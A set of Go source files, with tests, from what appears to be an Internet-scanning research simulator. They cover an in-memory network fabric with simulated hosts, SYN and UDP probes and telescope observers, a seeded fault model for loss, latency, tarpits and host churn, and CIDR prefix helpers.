		if opts.timedOut(plan, plan.DropDatagram) {
			n.stats.Dropped.Add(1)
			return nil, QueryDropped
		}
	}
	h := n.lookupHost(dst.IP)
	if h == nil {
		return nil, QueryDark
	}
	handler := h.DatagramService(dst.Port)
	if handler == nil {
		return nil, QueryClosed
	}
	resp := handler.HandleDatagram(srcEP, payload)
	if resp == nil {
		return nil, QueryIgnored
	}
	n.stats.Responses.Add(1)
	return resp, QueryAnswered
}

// ephemeralPort derives a stable pseudo-ephemeral source port for a flow so
// telescope FlowTuples have realistic, consistent 5-tuples.
func ephemeralPort(src IPv4, dst Endpoint) uint16 {
	h := uint32(src) * 2654435761
	h ^= uint32(dst.IP) * 2246822519
	h ^= uint32(dst.Port) * 3266489917
	h = (h >> 16) ^ h
	return uint16(32768 + h%28232) // IANA ephemeral range 32768..60999
}
