package netsim

import (
	"context"
	"sync"
	"sync/atomic"
	"time"
)

// StreamHandler serves one TCP-like connection on a simulated host. Serve
// must return when the conversation is over; the framework closes the conn.
type StreamHandler interface {
	Serve(ctx context.Context, conn *ServiceConn)
}

// StreamHandlerFunc adapts a function to a StreamHandler.
type StreamHandlerFunc func(ctx context.Context, conn *ServiceConn)

// Serve calls f.
func (f StreamHandlerFunc) Serve(ctx context.Context, conn *ServiceConn) { f(ctx, conn) }

// DatagramHandler answers one UDP-like query on a simulated host.
// A nil response means the datagram is dropped (no reply), matching a
// service that silently ignores malformed probes.
type DatagramHandler interface {
	HandleDatagram(from Endpoint, payload []byte) []byte
}

// DatagramHandlerFunc adapts a function to a DatagramHandler.
type DatagramHandlerFunc func(from Endpoint, payload []byte) []byte

// HandleDatagram calls f.
func (f DatagramHandlerFunc) HandleDatagram(from Endpoint, payload []byte) []byte {
	return f(from, payload)
}

// ServiceConn is the connection type handed to stream handlers. It embeds the
// in-memory conn and carries the simulated timestamp of the dial, letting
// services log events in simulation time.
type ServiceConn struct {
	*conn
	DialTime time.Time
}

// Host describes a simulated machine: which ports answer, and how.
// Implementations must be safe for concurrent use; the lazily derived IoT
// population returns stateless value hosts, while honeypots are stateful.
type Host interface {
	// StreamService returns the handler for a TCP port, or nil if closed.
	StreamService(port uint16) StreamHandler
	// DatagramService returns the handler for a UDP port, or nil if closed.
	DatagramService(port uint16) DatagramHandler
}

// HostProvider resolves an address to a host. Returning nil means no machine
// exists there (the address is dark). Providers must be safe for concurrent
// use and SHOULD be cheap: the scanner calls Host for every probed address.
type HostProvider interface {
	Host(ip IPv4) Host
}

// HostProviderFunc adapts a function to a HostProvider.
type HostProviderFunc func(ip IPv4) Host

// Host calls f.
func (f HostProviderFunc) Host(ip IPv4) Host { return f(ip) }

// ProbeKind classifies a traffic event seen by observers.
type ProbeKind uint8

// Probe kinds reported to observers.
const (
	ProbeSYN     ProbeKind = iota // TCP connection attempt
	ProbeUDP                      // UDP datagram
	ProbeACK                      // TCP established (dial succeeded)
	ProbePayload                  // application payload bytes on a stream
)

// String names the probe kind.
func (k ProbeKind) String() string {
	switch k {
	case ProbeSYN:
		return "syn"
	case ProbeUDP:
		return "udp"
	case ProbeACK:
		return "ack"
	case ProbePayload:
		return "payload"
	default:
		return "probe"
	}
}

// ProbeEvent is the wire-level event surfaced to observers (the network
// telescope taps these for its covered prefix).
type ProbeEvent struct {
	Time      time.Time
	Src       Endpoint
	Dst       Endpoint
	Transport Transport
	Kind      ProbeKind
	Size      int // payload length in bytes
	TTL       uint8
	Spoofed   bool // source address was forged by the sender
	Masscan   bool // probe carries the masscan ip.id fingerprint
}

// Observer receives wire-level events. Observers must be fast and
// non-blocking; the telescope aggregates in-memory.
type Observer interface {
	Observe(ev ProbeEvent)
}

// ObserverFunc adapts a function to an Observer.
type ObserverFunc func(ev ProbeEvent)

// Observe calls f.
func (f ObserverFunc) Observe(ev ProbeEvent) { f(ev) }

// Stats counts traffic carried by the network.
type Stats struct {
	Dials       atomic.Uint64 // TCP dial attempts
	DialsOK     atomic.Uint64 // successful dials
	Refused     atomic.Uint64 // host present, port closed
	Unreachable atomic.Uint64 // no host at address
	Datagrams   atomic.Uint64 // UDP queries sent
	Responses   atomic.Uint64 // UDP responses returned
}

// Network is the simulated Internet fabric. Hosts come from registered
// providers (checked most-specific first); traffic generates events for
// observers whose prefix covers the destination.
type Network struct {
	mu        sync.RWMutex
	providers []providerEntry
	observers []observerEntry
	clock     Clock

	// DefaultTTL is the IP TTL attached to generated probe events when the
	// sender does not specify one.
	DefaultTTL uint8

	stats Stats
}

type providerEntry struct {
	prefix   Prefix
	provider HostProvider
}

type observerEntry struct {
	prefix   Prefix
	observer Observer
}

// NewNetwork returns an empty network fabric using the given clock.
func NewNetwork(clock Clock) *Network {
	if clock == nil {
		clock = WallClock{}
	}
	return &Network{clock: clock, DefaultTTL: 64}
}

// Clock returns the network's time source.
func (n *Network) Clock() Clock { return n.clock }

// Stats returns the network's traffic counters.
func (n *Network) Stats() *Stats { return &n.stats }

// AddProvider registers a host provider for a prefix. When prefixes overlap,
// the most specific (longest) prefix wins; ties go to the later registration.
func (n *Network) AddProvider(prefix Prefix, p HostProvider) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.providers = append(n.providers, providerEntry{prefix: prefix, provider: p})
}

// AddObserver registers an observer for traffic destined to a prefix.
func (n *Network) AddObserver(prefix Prefix, o Observer) {
	n.mu.Lock()
	defer n.mu.Unlock()
	n.observers = append(n.observers, observerEntry{prefix: prefix, observer: o})
}

// lookupHost resolves ip through the registered providers.
func (n *Network) lookupHost(ip IPv4) Host {
	n.mu.RLock()
	defer n.mu.RUnlock()
	var (
		best     Host
		bestBits = -1
	)
	for _, e := range n.providers {
		if e.prefix.Bits >= bestBits && e.prefix.Contains(ip) {
			if h := e.provider.Host(ip); h != nil {
				best = h
				bestBits = e.prefix.Bits
			}
		}
	}
	return best
}

// emit delivers an event to every observer covering the destination.
func (n *Network) emit(ev ProbeEvent) {
	n.mu.RLock()
	obs := n.observers
	n.mu.RUnlock()
	for _, e := range obs {
		if e.prefix.Contains(ev.Dst.IP) {
			e.observer.Observe(ev)
		}
	}
}

// ProbeOptions let senders control the wire-level fingerprint of their
// traffic (the telescope records TTLs and the masscan ip.id quirk).
type ProbeOptions struct {
	TTL     uint8
	Spoofed bool
	Masscan bool
}

// SynProbe performs a stateless TCP SYN probe: it reports whether a host at
// dst accepts connections on the port, without establishing one. This is the
// ZMap fast path — no connection state is created for the millions of
// unresponsive addresses.
func (n *Network) SynProbe(src Endpoint, dst Endpoint, opts ProbeOptions) bool {
	ttl := opts.TTL
	if ttl == 0 {
		ttl = n.DefaultTTL
	}
	n.emit(ProbeEvent{
		Time: n.clock.Now(), Src: src, Dst: dst, Transport: TCP, Kind: ProbeSYN,
		Size: 0, TTL: ttl, Spoofed: opts.Spoofed, Masscan: opts.Masscan,
	})
	h := n.lookupHost(dst.IP)
	if h == nil {
		return false
	}
	return h.StreamService(dst.Port) != nil
}

// Dial establishes a TCP-like connection from src to dst. The returned conn
// is served by the destination host's handler in a new goroutine.
func (n *Network) Dial(ctx context.Context, src IPv4, dst Endpoint, opts ProbeOptions) (*ServiceConn, error) {
	n.stats.Dials.Add(1)
	now := n.clock.Now()
	ttl := opts.TTL
	if ttl == 0 {
		ttl = n.DefaultTTL
	}
	srcEP := Endpoint{IP: src, Port: ephemeralPort(src, dst)}
	n.emit(ProbeEvent{
		Time: now, Src: srcEP, Dst: dst, Transport: TCP, Kind: ProbeSYN,
		TTL: ttl, Spoofed: opts.Spoofed, Masscan: opts.Masscan,
	})
	h := n.lookupHost(dst.IP)
	if h == nil {
		n.stats.Unreachable.Add(1)
		return nil, ErrHostUnreachable
	}
	handler := h.StreamService(dst.Port)
	if handler == nil {
		n.stats.Refused.Add(1)
		return nil, ErrConnRefused
	}
	n.stats.DialsOK.Add(1)
	n.emit(ProbeEvent{Time: now, Src: srcEP, Dst: dst, Transport: TCP, Kind: ProbeACK, TTL: ttl})

	clientNC, serverNC := NewConnPair(srcEP, dst)
	client := &ServiceConn{conn: clientNC.(*conn), DialTime: now}
	server := &ServiceConn{conn: serverNC.(*conn), DialTime: now}
	go func() {
		defer server.Close()
		handler.Serve(ctx, server)
	}()
	return client, nil
}

// Query sends a UDP datagram from src to dst and returns the response, or
// nil if the destination does not answer (dark address, closed port, or the
// service dropped the probe).
func (n *Network) Query(src IPv4, dst Endpoint, payload []byte, opts ProbeOptions) []byte {
	n.stats.Datagrams.Add(1)
	now := n.clock.Now()
	ttl := opts.TTL
	if ttl == 0 {
		ttl = n.DefaultTTL
	}
	srcEP := Endpoint{IP: src, Port: ephemeralPort(src, dst)}
	n.emit(ProbeEvent{
		Time: now, Src: srcEP, Dst: dst, Transport: UDP, Kind: ProbeUDP,
		Size: len(payload), TTL: ttl, Spoofed: opts.Spoofed, Masscan: opts.Masscan,
	})
	h := n.lookupHost(dst.IP)
	if h == nil {
		return nil
	}
	handler := h.DatagramService(dst.Port)
	if handler == nil {
		return nil
	}
	resp := handler.HandleDatagram(srcEP, payload)
	if resp != nil {
		n.stats.Responses.Add(1)
	}
	return resp
}

// ephemeralPort derives a stable pseudo-ephemeral source port for a flow so
// telescope FlowTuples have realistic, consistent 5-tuples.
func ephemeralPort(src IPv4, dst Endpoint) uint16 {
	h := uint32(src) * 2654435761
	h ^= uint32(dst.IP) * 2246822519
	h ^= uint32(dst.Port) * 3266489917
	h = (h >> 16) ^ h
	return uint16(32768 + h%28232) // IANA ephemeral range 32768..60999
}
