// Package faults is the simulation's network-pathology layer: a seeded,
// fully deterministic model of everything the live IPv4 Internet does to a
// scanner that an in-memory fabric normally hides — probe loss, latency
// tails, tarpits, mid-stream resets, host churn, per-source rate limiting
// and administratively blackholed prefixes.
//
// Every decision is a pure function of (profile seed, destination, attempt
// ordinal, simulated time): there is no shared stream, no mutation, and no
// dependence on worker count or scheduling. Two runs with the same profile
// produce byte-identical traffic outcomes; a zero profile produces no model
// at all (New returns nil) and therefore byte-identical behaviour to a
// network with no fault layer installed.
package faults

import (
	"fmt"
	"strconv"
	"strings"
	"time"

	"openhire/internal/netsim"
	"openhire/internal/prng"
)

// Profile is the knob set of the pathology model. The zero value is a
// perfect network.
type Profile struct {
	// Seed drives every fault draw. Independent from the population and
	// scan seeds so chaos experiments can vary the weather without moving
	// the world underneath it.
	Seed uint64

	// SYNLoss is the per-transmission probability a TCP SYN (or its
	// SYN-ACK) is lost. Each retransmission attempt draws independently.
	SYNLoss float64
	// DatagramLoss is the per-transmission UDP loss probability.
	DatagramLoss float64

	// LatencyBase is the floor simulated RTT every path pays.
	LatencyBase time.Duration
	// LatencyJitter is the width of the per-(flow, attempt) uniform jitter
	// added on top of the base.
	LatencyJitter time.Duration
	// SlowHostProb marks a fraction of hosts as persistently slow (tarpit
	// adjacent: congested uplinks, wakeup-from-sleep devices); their RTT
	// gains SlowHostLatency on every attempt.
	SlowHostProb    float64
	SlowHostLatency time.Duration

	// TarpitProb marks a fraction of (host, port) services as tarpits: the
	// banner drips so slowly that any reasonable read window captures only
	// a prefix of TarpitBytes or fewer bytes before the stream is cut.
	TarpitProb  float64
	TarpitBytes int

	// ResetProb is the per-(flow, attempt) probability the conversation is
	// torn down by an RST after at most ResetBytes of server output.
	ResetProb  float64
	ResetBytes int

	// FlapProb is the fraction of hosts off the network during any given
	// churn epoch of FlapPeriod; which hosts are down re-rolls each epoch.
	FlapProb   float64
	FlapPeriod time.Duration

	// RateLimitedFrac is the fraction of /24 prefixes that ICMP-style
	// rate-limit heavy scanners; probes into them are dropped with
	// probability RateLimitDrop per (source, target, attempt).
	RateLimitedFrac float64
	RateLimitDrop   float64

	// BlackholeFrac is the fraction of /24 prefixes that administratively
	// drop all probes — the persistently dead space a scanner's circuit
	// breaker learns to skip.
	BlackholeFrac float64

	// Exempt lists prefixes the model never touches (deployed measurement
	// infrastructure: the paper's honeypots ran uninterrupted for the whole
	// month, so campaign replays exempt their addresses from churn).
	Exempt *netsim.PrefixSet
}

// Enabled reports whether any pathology knob is active.
func (p Profile) Enabled() bool {
	return p.SYNLoss > 0 || p.DatagramLoss > 0 ||
		p.LatencyBase > 0 || p.LatencyJitter > 0 || p.SlowHostProb > 0 ||
		p.TarpitProb > 0 || p.ResetProb > 0 || p.FlapProb > 0 ||
		p.RateLimitedFrac > 0 || p.BlackholeFrac > 0
}

// Zero is the no-pathology profile: New(Zero()) returns nil, leaving the
// network byte-identical to one without a fault layer.
func Zero() Profile { return Profile{} }

// Calibrated is the default chaos profile: mild, Internet-plausible rates
// under which a retransmitting scanner retains its coverage — per-protocol
// misconfigured-host proportions stay within ±2% of the zero-fault baseline
// (enforced by the chaos equivalence tests).
func Calibrated() Profile {
	return Profile{
		Seed:            0x0B5E55ED,
		SYNLoss:         0.03,
		DatagramLoss:    0.03,
		LatencyBase:     15 * time.Millisecond,
		LatencyJitter:   60 * time.Millisecond,
		SlowHostProb:    0.01,
		SlowHostLatency: 2 * time.Second,
		TarpitProb:      0.01,
		TarpitBytes:     24,
		ResetProb:       0.01,
		ResetBytes:      32,
		FlapProb:        0.01,
		FlapPeriod:      time.Hour,
		RateLimitedFrac: 0.05,
		RateLimitDrop:   0.30,
		BlackholeFrac:   0.01,
	}
}

// Harsh is a stress profile: heavy loss, aggressive rate limiting and churn.
// Coverage degrades visibly; used to exercise the graceful-degradation
// accounting rather than to reproduce paper numbers.
func Harsh() Profile {
	p := Calibrated()
	p.SYNLoss = 0.15
	p.DatagramLoss = 0.15
	p.SlowHostProb = 0.05
	p.TarpitProb = 0.05
	p.ResetProb = 0.05
	p.FlapProb = 0.05
	p.RateLimitedFrac = 0.15
	p.RateLimitDrop = 0.6
	p.BlackholeFrac = 0.03
	return p
}

// Model implements netsim.FaultModel over a Profile. All methods are pure:
// safe for unbounded concurrency, byte-identical across runs.
type Model struct {
	p    Profile
	root *prng.Source // hash root; never advanced, only Hash64'd
}

// Draw-domain labels keep the independent decision families in disjoint
// hash streams.
const (
	labelLoss     = 0x10c5
	labelJitter   = 0x2a17
	labelSlow     = 0x3b29
	labelTarpit   = 0x4c31
	labelTarpitSz = 0x4c32
	labelReset    = 0x5d43
	labelResetSz  = 0x5d44
	labelFlap     = 0x6e55
	labelRateLim  = 0x7f67
	labelRateDrop = 0x7f68
	labelBlack    = 0x8a79
)

// New builds the model, or returns nil when the profile has no active
// pathology — callers install nothing and keep the fast path.
func New(p Profile) *Model {
	if !p.Enabled() {
		return nil
	}
	if p.TarpitBytes <= 0 {
		p.TarpitBytes = 24
	}
	if p.ResetBytes <= 0 {
		p.ResetBytes = 32
	}
	if p.FlapPeriod <= 0 {
		p.FlapPeriod = time.Hour
	}
	return &Model{p: p, root: prng.New(p.Seed)}
}

// u01 maps 64 hash bits onto [0, 1).
func u01(h uint64) float64 { return float64(h>>11) / (1 << 53) }

// PlanProbe implements netsim.FaultModel.
func (m *Model) PlanProbe(src netsim.IPv4, dst netsim.Endpoint, tr netsim.Transport,
	attempt uint32, now time.Time) netsim.FaultPlan {
	var plan netsim.FaultPlan
	if m.p.Exempt != nil && m.p.Exempt.Contains(dst.IP) {
		return plan
	}
	ip := uint64(dst.IP)
	port := uint64(dst.Port)
	att := uint64(attempt)

	// Host churn: a deterministic subset of hosts is off the network each
	// epoch; the subset re-rolls when the simulated clock crosses an epoch
	// boundary, so a month-long replay sees hosts come and go.
	if m.p.FlapProb > 0 {
		epoch := uint64(now.Unix()) / uint64(m.p.FlapPeriod/time.Second)
		if u01(m.root.Hash64(labelFlap, ip, epoch)) < m.p.FlapProb {
			plan.HostDown = true
			return plan
		}
	}

	// Prefix-level pathologies.
	p24 := ip >> 8
	drop := false
	switch {
	case m.p.BlackholeFrac > 0 && u01(m.root.Hash64(labelBlack, p24)) < m.p.BlackholeFrac:
		drop = true // administrative blackhole: nothing ever comes back
	case m.p.RateLimitedFrac > 0 && u01(m.root.Hash64(labelRateLim, p24)) < m.p.RateLimitedFrac:
		if u01(m.root.Hash64(labelRateDrop, uint64(src), ip, port, att)) < m.p.RateLimitDrop {
			drop = true
		}
	}

	// Ambient loss, drawn independently per transmission.
	loss := m.p.SYNLoss
	if tr == netsim.UDP {
		loss = m.p.DatagramLoss
	}
	if !drop && loss > 0 && u01(m.root.Hash64(labelLoss, uint64(src), ip, port, att)) < loss {
		drop = true
	}
	if tr == netsim.UDP {
		plan.DropDatagram = drop
	} else {
		plan.DropSYN = drop
	}

	// Latency: per-host slow tail plus per-transmission jitter.
	lat := m.p.LatencyBase
	if m.p.SlowHostProb > 0 && u01(m.root.Hash64(labelSlow, ip)) < m.p.SlowHostProb {
		lat += m.p.SlowHostLatency
	}
	if m.p.LatencyJitter > 0 {
		lat += time.Duration(m.root.Hash64(labelJitter, ip, port, att) % uint64(m.p.LatencyJitter))
	}
	plan.Latency = lat

	// Stream pathologies (TCP only). Tarpit is a property of the service —
	// every attempt hits the same drip — while resets strike per flow.
	if tr == netsim.TCP {
		if m.p.TarpitProb > 0 && u01(m.root.Hash64(labelTarpit, ip, port)) < m.p.TarpitProb {
			plan.TruncateAfter = 1 + int(m.root.Hash64(labelTarpitSz, ip, port)%uint64(m.p.TarpitBytes))
		} else if m.p.ResetProb > 0 &&
			u01(m.root.Hash64(labelReset, uint64(src), ip, port, att)) < m.p.ResetProb {
			plan.ResetAfter = 1 + int(m.root.Hash64(labelResetSz, ip, port, att)%uint64(m.p.ResetBytes))
		}
	}
	return plan
}

// Blackholed implements netsim.FaultModel.
func (m *Model) Blackholed(src netsim.IPv4, dst netsim.IPv4) bool {
	if m.p.BlackholeFrac <= 0 {
		return false
	}
	if m.p.Exempt != nil && m.p.Exempt.Contains(dst) {
		return false
	}
	return u01(m.root.Hash64(labelBlack, uint64(dst)>>8)) < m.p.BlackholeFrac
}

// Profile returns the model's (normalized) profile.
func (m *Model) Profile() Profile { return m.p }

// Parse builds a Profile from a command-line spec: a preset name
// ("zero"/"off", "calibrated", "harsh") optionally followed by
// comma-separated key=value overrides, e.g.
//
//	calibrated,synloss=0.05,flap=0.02,seed=7
//
// Durations accept Go syntax ("150ms"); probabilities are floats in [0, 1].
func Parse(spec string) (Profile, error) {
	parts := strings.Split(spec, ",")
	var p Profile
	switch strings.ToLower(strings.TrimSpace(parts[0])) {
	case "", "zero", "off", "none":
		p = Zero()
	case "calibrated", "default":
		p = Calibrated()
	case "harsh":
		p = Harsh()
	default:
		return p, fmt.Errorf("faults: unknown profile %q (want zero|calibrated|harsh)", parts[0])
	}
	for _, kv := range parts[1:] {
		kv = strings.TrimSpace(kv)
		if kv == "" {
			continue
		}
		key, val, ok := strings.Cut(kv, "=")
		if !ok {
			return p, fmt.Errorf("faults: override %q is not key=value", kv)
		}
		if err := p.set(strings.ToLower(strings.TrimSpace(key)), strings.TrimSpace(val)); err != nil {
			return p, err
		}
	}
	return p, nil
}

// set applies one key=value override.
func (p *Profile) set(key, val string) error {
	prob := func(dst *float64) error {
		v, err := strconv.ParseFloat(val, 64)
		if err != nil || v < 0 || v > 1 {
			return fmt.Errorf("faults: %s=%q is not a probability in [0, 1]", key, val)
		}
		*dst = v
		return nil
	}
	dur := func(dst *time.Duration) error {
		v, err := time.ParseDuration(val)
		if err != nil || v < 0 {
			return fmt.Errorf("faults: %s=%q is not a non-negative duration", key, val)
		}
		*dst = v
		return nil
	}
	count := func(dst *int) error {
		v, err := strconv.Atoi(val)
		if err != nil || v < 0 {
			return fmt.Errorf("faults: %s=%q is not a non-negative count", key, val)
		}
		*dst = v
		return nil
	}
	switch key {
	case "seed":
		v, err := strconv.ParseUint(val, 0, 64)
		if err != nil {
			return fmt.Errorf("faults: seed=%q is not a uint64", val)
		}
		p.Seed = v
		return nil
	case "synloss":
		return prob(&p.SYNLoss)
	case "udploss":
		return prob(&p.DatagramLoss)
	case "latbase":
		return dur(&p.LatencyBase)
	case "latjitter":
		return dur(&p.LatencyJitter)
	case "slowprob":
		return prob(&p.SlowHostProb)
	case "slowlat":
		return dur(&p.SlowHostLatency)
	case "tarpit":
		return prob(&p.TarpitProb)
	case "tarpitbytes":
		return count(&p.TarpitBytes)
	case "reset":
		return prob(&p.ResetProb)
	case "resetbytes":
		return count(&p.ResetBytes)
	case "flap":
		return prob(&p.FlapProb)
	case "flapperiod":
		return dur(&p.FlapPeriod)
	case "ratelimited":
		return prob(&p.RateLimitedFrac)
	case "rldrop":
		return prob(&p.RateLimitDrop)
	case "blackhole":
		return prob(&p.BlackholeFrac)
	default:
		return fmt.Errorf("faults: unknown knob %q", key)
	}
}
