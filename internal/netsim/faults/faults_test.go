package faults

import (
	"math"
	"testing"
	"time"

	"openhire/internal/netsim"
)

var probeTime = netsim.ExperimentStart.Add(6 * time.Hour)

func TestZeroProfileBuildsNoModel(t *testing.T) {
	if m := New(Zero()); m != nil {
		t.Fatal("New(Zero()) != nil")
	}
	if m := New(Profile{Seed: 99}); m != nil {
		t.Fatal("a seed alone is not a pathology; New must return nil")
	}
	if m := New(Calibrated()); m == nil {
		t.Fatal("New(Calibrated()) == nil")
	}
}

// TestPlanProbePure asserts the model is a pure function: identical inputs
// give identical plans, across two independently constructed models.
func TestPlanProbePure(t *testing.T) {
	a, b := New(Harsh()), New(Harsh())
	for i := uint32(0); i < 2000; i++ {
		dst := netsim.Endpoint{IP: netsim.IPv4(0x32000000 + i*977), Port: uint16(23 + i%5)}
		for att := uint32(0); att < 3; att++ {
			pa := a.PlanProbe(1, dst, netsim.TCP, att, probeTime)
			pb := b.PlanProbe(1, dst, netsim.TCP, att, probeTime)
			if pa != pb {
				t.Fatalf("plans diverge for %v attempt %d: %+v vs %+v", dst, att, pa, pb)
			}
		}
	}
}

// TestLossRateCalibration samples the SYN loss decision and checks the
// empirical rate tracks the configured probability.
func TestLossRateCalibration(t *testing.T) {
	const p = 0.1
	m := New(Profile{Seed: 3, SYNLoss: p})
	const samples = 20000
	dropped := 0
	for i := 0; i < samples; i++ {
		dst := netsim.Endpoint{IP: netsim.IPv4(0x0A000000 + i), Port: 23}
		if m.PlanProbe(1, dst, netsim.TCP, 0, probeTime).DropSYN {
			dropped++
		}
	}
	got := float64(dropped) / samples
	if math.Abs(got-p) > 0.01 {
		t.Fatalf("empirical loss %.4f, configured %.2f", got, p)
	}
}

// TestRetransmitDrawsFreshLoss asserts attempts draw independently: a target
// whose first transmission is lost is usually reachable on a later attempt.
func TestRetransmitDrawsFreshLoss(t *testing.T) {
	m := New(Profile{Seed: 3, SYNLoss: 0.5})
	lostAll := 0
	const hosts = 4000
	for i := 0; i < hosts; i++ {
		dst := netsim.Endpoint{IP: netsim.IPv4(0x0A000000 + i), Port: 23}
		all := true
		for att := uint32(0); att < 3; att++ {
			if !m.PlanProbe(1, dst, netsim.TCP, att, probeTime).DropSYN {
				all = false
				break
			}
		}
		if all {
			lostAll++
		}
	}
	// Independent draws at 50% lose all three ~12.5% of the time; correlated
	// draws would lose all three ~50% of the time.
	got := float64(lostAll) / hosts
	if got > 0.16 || got < 0.09 {
		t.Fatalf("all-three-lost rate %.4f; attempts are not independent draws", got)
	}
}

// TestFlapEpochChurn asserts the down-host set re-rolls across churn epochs
// and is stable within one.
func TestFlapEpochChurn(t *testing.T) {
	m := New(Profile{Seed: 7, FlapProb: 0.5, FlapPeriod: time.Hour})
	sameEpoch := probeTime.Add(10 * time.Minute)
	nextEpoch := probeTime.Add(2 * time.Hour)
	changed, down := 0, 0
	const hosts = 2000
	for i := 0; i < hosts; i++ {
		dst := netsim.Endpoint{IP: netsim.IPv4(0x0A000000 + i), Port: 23}
		now := m.PlanProbe(1, dst, netsim.TCP, 0, probeTime).HostDown
		if now {
			down++
		}
		if m.PlanProbe(1, dst, netsim.TCP, 0, sameEpoch).HostDown != now {
			t.Fatalf("host %v flapped within one epoch", dst.IP)
		}
		if m.PlanProbe(1, dst, netsim.TCP, 0, nextEpoch).HostDown != now {
			changed++
		}
	}
	if down < hosts/3 || down > 2*hosts/3 {
		t.Fatalf("%d of %d hosts down at FlapProb 0.5", down, hosts)
	}
	// At 50% flap, half the hosts change state across an epoch boundary.
	if changed < hosts/3 {
		t.Fatalf("only %d of %d hosts changed across the epoch boundary", changed, hosts)
	}
}

// TestExemptPrefixesUntouched asserts exempt space sees no pathology at all,
// even under the harsh profile.
func TestExemptPrefixesUntouched(t *testing.T) {
	p := Harsh()
	p.Exempt = netsim.NewPrefixSet(netsim.MustParsePrefix("198.18.0.0/24"))
	m := New(p)
	for i := 0; i < 256; i++ {
		ip := netsim.MustParseIPv4("198.18.0.0") + netsim.IPv4(i)
		for att := uint32(0); att < 3; att++ {
			plan := m.PlanProbe(1, netsim.Endpoint{IP: ip, Port: 23}, netsim.TCP, att, probeTime)
			if plan != (netsim.FaultPlan{}) {
				t.Fatalf("exempt host %v got plan %+v", ip, plan)
			}
		}
		if m.Blackholed(1, ip) {
			t.Fatalf("exempt host %v reported blackholed", ip)
		}
	}
}

// TestBlackholedMatchesPlan asserts the breaker oracle and the per-probe
// plan agree: a blackholed destination's probes are always dropped.
func TestBlackholedMatchesPlan(t *testing.T) {
	m := New(Profile{Seed: 11, BlackholeFrac: 0.2})
	blackholed := 0
	for i := 0; i < 4000; i++ {
		ip := netsim.IPv4(0x0A000000 + i*131)
		if !m.Blackholed(1, ip) {
			continue
		}
		blackholed++
		for att := uint32(0); att < 3; att++ {
			if !m.PlanProbe(1, netsim.Endpoint{IP: ip, Port: 23}, netsim.TCP, att, probeTime).DropSYN {
				t.Fatalf("blackholed host %v had a surviving SYN", ip)
			}
			if !m.PlanProbe(1, netsim.Endpoint{IP: ip, Port: 5683}, netsim.UDP, att, probeTime).DropDatagram {
				t.Fatalf("blackholed host %v had a surviving datagram", ip)
			}
		}
	}
	if blackholed == 0 {
		t.Fatal("no blackholed addresses in sample")
	}
}

// TestTarpitStableResetPerFlow asserts tarpitting is a service property
// (every attempt sees the same truncation budget) while resets re-roll per
// attempt.
func TestTarpitStableResetPerFlow(t *testing.T) {
	m := New(Profile{Seed: 13, TarpitProb: 1.0, TarpitBytes: 24})
	dst := netsim.Endpoint{IP: 0x0A0B0C0D, Port: 23}
	first := m.PlanProbe(1, dst, netsim.TCP, 0, probeTime).TruncateAfter
	if first <= 0 || first > 24 {
		t.Fatalf("tarpit budget %d outside (0, 24]", first)
	}
	for att := uint32(1); att < 4; att++ {
		if got := m.PlanProbe(1, dst, netsim.TCP, att, probeTime).TruncateAfter; got != first {
			t.Fatalf("tarpit budget changed across attempts: %d then %d", first, got)
		}
	}

	mr := New(Profile{Seed: 13, ResetProb: 0.5, ResetBytes: 32})
	varies := false
	base := mr.PlanProbe(1, dst, netsim.TCP, 0, probeTime).ResetAfter
	for att := uint32(1); att < 16 && !varies; att++ {
		if mr.PlanProbe(1, dst, netsim.TCP, att, probeTime).ResetAfter != base {
			varies = true
		}
	}
	if !varies {
		t.Fatal("reset decision identical across 16 attempts at 50% probability")
	}
}

func TestParse(t *testing.T) {
	p, err := Parse("calibrated,synloss=0.05,flapperiod=30m,seed=0x7,tarpitbytes=48")
	if err != nil {
		t.Fatal(err)
	}
	if p.SYNLoss != 0.05 || p.FlapPeriod != 30*time.Minute || p.Seed != 7 || p.TarpitBytes != 48 {
		t.Fatalf("overrides not applied: %+v", p)
	}
	if p.DatagramLoss != Calibrated().DatagramLoss {
		t.Fatal("non-overridden knob lost its preset value")
	}

	if p, err := Parse(""); err != nil || p.Enabled() {
		t.Fatalf("empty spec: %+v, %v", p, err)
	}
	if p, err := Parse("off"); err != nil || p.Enabled() {
		t.Fatalf("off spec: %+v, %v", p, err)
	}
	if _, err := Parse("harsh"); err != nil {
		t.Fatal(err)
	}

	for _, bad := range []string{
		"tornado",              // unknown preset
		"calibrated,synloss=2", // probability out of range
		"calibrated,latbase=-5ms",
		"calibrated,bogus=1",
		"calibrated,synloss",
	} {
		if _, err := Parse(bad); err == nil {
			t.Fatalf("Parse(%q) accepted", bad)
		}
	}
}
