package netsim

import (
	"fmt"
	"sort"
	"strconv"
	"strings"
)

// Prefix is an IPv4 CIDR prefix.
type Prefix struct {
	IP   IPv4 // canonical (low bits zeroed)
	Bits int  // prefix length, 0..32
}

// ParsePrefix parses CIDR notation ("10.0.0.0/8").
func ParsePrefix(s string) (Prefix, error) {
	slash := strings.IndexByte(s, '/')
	if slash < 0 {
		return Prefix{}, fmt.Errorf("netsim: invalid prefix %q: missing /", s)
	}
	ip, err := ParseIPv4(s[:slash])
	if err != nil {
		return Prefix{}, err
	}
	bits, err := strconv.Atoi(s[slash+1:])
	if err != nil || bits < 0 || bits > 32 {
		return Prefix{}, fmt.Errorf("netsim: invalid prefix length in %q", s)
	}
	return NewPrefix(ip, bits), nil
}

// MustParsePrefix is ParsePrefix that panics on error.
func MustParsePrefix(s string) Prefix {
	p, err := ParsePrefix(s)
	if err != nil {
		panic(err)
	}
	return p
}

// NewPrefix canonicalizes ip to the prefix base address.
func NewPrefix(ip IPv4, bits int) Prefix {
	return Prefix{IP: ip & mask(bits), Bits: bits}
}

func mask(bits int) IPv4 {
	if bits <= 0 {
		return 0
	}
	return IPv4(^uint32(0) << (32 - uint(bits)))
}

// Contains reports whether ip falls within the prefix.
func (p Prefix) Contains(ip IPv4) bool {
	return ip&mask(p.Bits) == p.IP
}

// Size returns the number of addresses covered by the prefix.
func (p Prefix) Size() uint64 {
	return uint64(1) << (32 - uint(p.Bits))
}

// First returns the lowest address in the prefix.
func (p Prefix) First() IPv4 { return p.IP }

// Last returns the highest address in the prefix.
func (p Prefix) Last() IPv4 { return p.IP | ^mask(p.Bits) }

// Nth returns the i-th address within the prefix. It panics if i is out of
// range.
func (p Prefix) Nth(i uint64) IPv4 {
	if i >= p.Size() {
		panic("netsim: Prefix.Nth out of range")
	}
	return p.IP + IPv4(i)
}

// Index returns the offset of ip within the prefix, or false if outside.
